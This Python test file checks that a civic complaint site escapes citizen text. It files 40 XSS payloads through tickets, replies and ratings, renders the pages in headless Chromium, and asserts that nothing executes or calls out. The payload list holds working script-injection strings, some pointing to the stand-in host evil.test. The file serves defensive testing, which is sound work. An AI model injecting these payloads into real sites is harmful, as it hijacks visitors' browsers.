"""Citizen text is published: 40 script-injection payloads, filed as descriptions, additions and
rating comments, rendered on every page type that shows citizen text and opened in headless
Chromium. No script may run (no dialog, no marker set, no request made) and the text must show
literally. The pages are served to the browser as they were written to storage, without the
site's content policy, so escaping alone has to hold."""
from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from chalicelib.domain.model import Outcome, Rating
from chalicelib.services import actions, steps, tickets
from chalicelib.services.commands import AddInformation, RateTicket, ReplyTicket, SubmitTicket
from chalicelib.services.site import rebuild_pending
from tests.builders import CITY, submission
from tests.fakes import World, make_world

pytestmark = pytest.mark.e2e

# Each payload, if it ever ran, would set window.__x, open a dialog, or fetch http://evil.test.
PAYLOADS = [
    "<script>window.__x=1</script>",
    "<img src=x onerror=window.__x=1>",
    "<svg onload=window.__x=1>",
    "<svg><script>window.__x=1</script></svg>",
    "\"><script>window.__x=1</script>",
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>window.__x=1</script>",
    "</title><script>window.__x=1</script>",
    "</script><script>window.__x=1</script>",
    "<iframe src=\"javascript:window.parent.__x=1\"></iframe>",
    "<body onload=window.__x=1>",
    "<input autofocus onfocus=window.__x=1>",
    "<details open ontoggle=window.__x=1>",
    "<a href=\"javascript:window.__x=1\">点我</a>",
    "<math><mtext><script>window.__x=1</script></mtext></math>",
    "<object data=\"javascript:window.__x=1\"></object>",
    "<embed src=\"javascript:window.__x=1\">",
    "<video><source onerror=window.__x=1></video>",
    "<audio src=x onerror=window.__x=1>",
    "<marquee onstart=window.__x=1>路灯</marquee>",
    "<div style=\"background:url(javascript:window.__x=1)\">x</div>",
    "<link rel=stylesheet href=http://evil.test/a.css>",
    "<meta http-equiv=refresh content=\"0;url=http://evil.test/\">",
    "<base href=\"http://evil.test/\">",
    "<form action=http://evil.test><button>提交</button></form>",
    "{{ 7*7 }} {% raw %}{{7*7}}{% endraw %}",
    "${alert(1)} #{7*7}",
    "<scr<script>ipt>window.__x=1</scr</script>ipt>",
    "&lt;script&gt;window.__x=1&lt;/script&gt;",
    "<img src=\"x\" onerror=\"&#119;indow.__x=1\">",
    "<svg><animate onbegin=window.__x=1 attributeName=x dur=1s>",
    "<style>@import 'http://evil.test/x.css';</style>",
    "javascript:window.__x=1",
    "<template><script>window.__x=1</script></template>"
    "<noscript><p title=\"</noscript><img src=x onerror=window.__x=1>\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<x contenteditable onblur=window.__x=1>lose focus</x>",
    "\u2028\u2029<script>window.__x=1</script>",
    "<!--<img src=\"--><img src=x onerror=window.__x=1//\">",
    "<a href=\"&#106;avascript:window.__x=1\">链接</a>",
    "<table background=\"javascript:window.__x=1\"><tr><td>路</td></tr></table>",
]


def _world_with_payloads() -> tuple[World, list[str]]:
    # Nothing is merged as a duplicate: every payload stays its own case.
    world = make_world(data={**CITY, "policy": {**CITY["policy"], "duplicate_similarity": 2.0}})
    numbers = []
    for index, payload in enumerate(PAYLOADS):
        receipt = tickets.submit(SubmitTicket.parse(submission(description=f"路灯坏了 {payload}")), world.deps)
        numbers.append(receipt.number)
        ticket = world.deps.tickets.by_number(receipt.number)
        steps.screen(ticket.id, world.deps)
        steps.dispatch(ticket.id, world.deps)
        secret = receipt.tracking.split("#k=")[1]
        actions.add_information(receipt.number, AddInformation.parse({"secret": secret, "text": f"补充 {payload}"}),
                                world.deps)
        if index % 2 == 0:  # half of them replied and rated with the payload as the comment
            department = world.deps.tickets.by_number(receipt.number).department or ""
            from chalicelib.services.commands import AcceptTicket
            actions.accept(receipt.number, department, AcceptTicket.parse({}), world.deps)
            actions.reply(receipt.number, department, ReplyTicket.parse(
                {"text": f"已修复 {payload}", "outcome": Outcome.RESOLVED.value}), world.deps)
            ticket = world.deps.tickets.by_number(receipt.number)
            steps.open_survey(ticket.id, world.deps)
            actions.rate(receipt.number, RateTicket.parse({"secret": secret, "rating": Rating.UNSATISFIED.value,
                                                           "comment": f"不满意 {payload}"}), world.deps)
    world.deliver()
    rebuild_pending(world.deps)
    return world, numbers


@pytest.fixture(scope="module")
def published() -> tuple[World, list[str]]:
    return _world_with_payloads()


def _pages(world: World) -> list[str]:
    """One key of each page type that shows citizen text, both languages."""
    keys = set(world.site.pages)
    wanted = []
    for prefix in ("", "en/"):
        for pattern in ("t/", "hall/index", "hall/2", "hall/c/lights.html", "hall/c/lights/", "hall/a/east.html",
                        "l/e1.html", "l/e1/", "d/", "disclosure/2"):
            found = sorted(k for k in keys if k.startswith(prefix + pattern) and k.endswith(".html"))
            assert found, f"no page {prefix}{pattern}"
            wanted.append(found[0])
    return wanted


def test_the_corpus_has_forty_payloads():
    assert len(set(PAYLOADS)) >= 40


def test_no_payload_runs_and_every_one_shows_literally_on_every_page_type(published, browser):
    world, numbers = published
    dialogs: list[str] = []
    outside: list[str] = []
    context = browser.new_context(viewport={"width": 390, "height": 844})
    page = context.new_page()
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    def serve(route: Any) -> None:
        url = route.request.url
        if not url.startswith("http://site.test/"):
            outside.append(url)
            route.abort()
            return
        key = url.removeprefix("http://site.test/").split("#")[0]
        body = world.site.pages.get(key)
        if body is None:
            route.fulfill(status=404, body="")
        else:
            route.fulfill(status=200, body=body, content_type="text/html; charset=utf-8")

    page.route("**/*", serve)
    try:
        for key in _pages(world):
            page.goto(f"http://site.test/{key}")
            page.wait_for_timeout(50)
            assert page.evaluate("() => window.__x") is None, key
            text = page.inner_text("body")
            shown = [p for p in PAYLOADS if p.strip()[:30] in text]
            if key.endswith((f"{numbers[0]}.html",)) or "/t/" in f"/{key}":
                number = key.rsplit("/", 1)[1].removesuffix(".html")
                payload = PAYLOADS[numbers.index(number)]
                assert payload.strip()[:30] in text, (key, payload)
            else:
                assert shown, f"{key} shows no payload literally"
        assert dialogs == [] and outside == []
    finally:
        context.close()


def test_every_case_page_shows_its_payload_literally_in_description_addition_and_comment(published, browser):
    world, numbers = published
    context = browser.new_context()
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.route("**/*", lambda route: route.fulfill(
        status=200, content_type="text/html; charset=utf-8",
        body=world.site.pages.get(route.request.url.removeprefix("http://site.test/"), b""))
        if route.request.url.startswith("http://site.test/") else route.abort())
    try:
        for index, (number, payload) in enumerate(zip(numbers, PAYLOADS, strict=True)):
            page.goto(f"http://site.test/t/{number}.html")
            text = page.inner_text("body")
            assert f"路灯坏了 {payload}".strip() in text.replace("\n", " ") or payload.strip() in text, number
            assert f"补充 {payload}".strip()[:20] in text, number
            if index % 2 == 0:
                assert f"不满意 {payload}".strip()[:20] in text, number
            assert page.evaluate("() => window.__x") is None, number
        assert dialogs == []
    finally:
        context.close()


def test_the_disclosure_csv_holds_the_text_as_text(published):
    world, numbers = published
    key = next(k for k in world.site.pages if k.startswith("disclosure/2") and k.endswith(".csv"))
    rows = list(csv.reader(io.StringIO(world.site.text(key).lstrip("\ufeff"))))
    contents = " ".join(row[2] for row in rows[1:])
    assert all(p.strip()[:20] in contents for p in PAYLOADS if not p.startswith(("=", "+", "-", "@")))
